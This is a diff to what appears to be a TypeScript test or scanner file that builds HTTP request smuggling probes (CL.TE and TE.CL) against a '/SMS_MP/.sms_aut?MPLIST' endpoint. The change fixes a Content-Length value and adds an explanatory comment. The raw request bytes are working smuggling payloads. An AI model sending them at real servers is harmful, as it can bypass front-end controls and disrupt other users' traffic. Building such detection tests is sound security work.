@@ -8,7 +8,8 @@ import { check } from '../fixtures.js';
 function variants(host: string, marker: string): { name: string; bytes: string }[] {
   const hidden = (kind: string) => `GET /smuggled-${kind}-${marker} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
   const clTeBody = `0\r\n\r\n${hidden('cl-te')}`;
-  const teClInner = `${hidden('te-cl').slice(0, -2)}Content-Length: 15\r\n\r\nx=1`;
+  // For a parser that trusts Content-Length the hidden GET's body is `x=1` plus the chunked tail.
+  const teClInner = `${hidden('te-cl').slice(0, -2)}Content-Length: 10\r\n\r\nx=1`;
   return [
     { name: 'CL.TE', bytes: `POST /SMS_MP/.sms_aut?MPLIST HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${clTeBody.length}\r\nTransfer-Encoding: chunked\r\n\r\n${clTeBody}` },
     { name: 'TE.CL', bytes: `POST /SMS_MP/.sms_aut?MPLIST HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${teClInner.length.toString(16)}\r\n${teClInner}\r\n0\r\n\r\n` },
